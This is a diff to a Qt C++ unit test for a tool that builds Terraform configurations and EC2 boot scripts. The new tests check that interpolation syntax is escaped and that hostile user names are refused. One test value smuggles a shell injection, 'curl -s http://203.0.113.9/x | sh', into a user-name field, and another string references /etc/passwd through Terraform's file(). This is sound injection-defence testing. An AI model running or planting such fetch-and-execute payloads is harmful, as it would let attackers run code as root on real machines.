@@ -5,6 +5,7 @@
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QProcess>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -15,6 +16,7 @@ private Q_SLOTS:
     void slugs();
     void roundTrip();
     void terraformEscapesData();
+    void userDataQuoted();
 };
 
 void TestDeployState::slugs()
@@ -81,9 +83,40 @@ void TestDeployState::terraformEscapesData()
     QCOMPARE(instance.value(QStringLiteral("user_data")).toString(), QStringLiteral("echo $${HOME}"));
     QCOMPARE(instance.value(QStringLiteral("tags")).toObject().value(QStringLiteral("condition")).toString(),
              QStringLiteral("$${file(\"/etc/passwd\")}"));
-    QVERIFY(Terraform::isValidCidr(QStringLiteral("203.0.113.7/32")));
-    QVERIFY(!Terraform::isValidCidr(QStringLiteral("203.0.113.7")));
-    QVERIFY(!Terraform::isValidCidr(QStringLiteral("nonsense/8")));
+    // Every string is data, the configuration's own references excepted.
+    QCOMPARE(instance.value(QStringLiteral("key_name")).toString(),
+             QStringLiteral("${aws_key_pair.machines.key_name}"));
+    QVERIFY(!QJsonDocument(config).toJson().contains("\\u0001"));
+    settings.instanceType = QStringLiteral("t3.${x}");
+    settings.sshCidr = QStringLiteral("%{ if true }0.0.0.0/0%{ endif }");
+    const QJsonObject hostile = Terraform::configuration(QStringLiteral("exp"), s, settings);
+    const QByteArray text = QJsonDocument(hostile).toJson();
+    QVERIFY(text.contains("t3.$${x}"));
+    QVERIFY(text.contains("%%{ if true }"));
+    QVERIFY(!text.contains("\"t3.${"));
+}
+
+void TestDeployState::userDataQuoted()
+{
+    QFile templateFile(qEnvironmentVariable("LOGISTICIAN_DATA_DIR")
+                       + QStringLiteral("/templates/bootstrap/user-data.sh"));
+    QVERIFY(templateFile.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(templateFile.readAll());
+    // A hostile user name is refused; it never reaches the root boot script.
+    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"),
+                                 QStringLiteral("admin'; curl -s http://203.0.113.9/x | sh; echo '"), 15));
+    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"), QStringLiteral("-admin"), 15));
+    const auto rendered = Terraform::userData(text, QStringLiteral("exp.1"), QStringLiteral("ec2-user"), 15);
+    QVERIFY(rendered);
+    QVERIFY(rendered->contains(QStringLiteral("\nUSER_NAME=ec2-user\n")));
+    QVERIFY(rendered->contains(QStringLiteral("\nAUTO_STOP_MINUTES=15\n")));
+    QVERIFY(!rendered->contains(QLatin1Char('@') + QStringLiteral("USER@")));
+    QProcess sh;
+    sh.start(QStringLiteral("sh"), { QStringLiteral("-n") });
+    sh.write(rendered->toUtf8());
+    sh.closeWriteChannel();
+    QVERIFY(sh.waitForFinished(10000));
+    QCOMPARE(sh.exitCode(), 0);
 }
 
 QTEST_GUILESS_MAIN(TestDeployState)
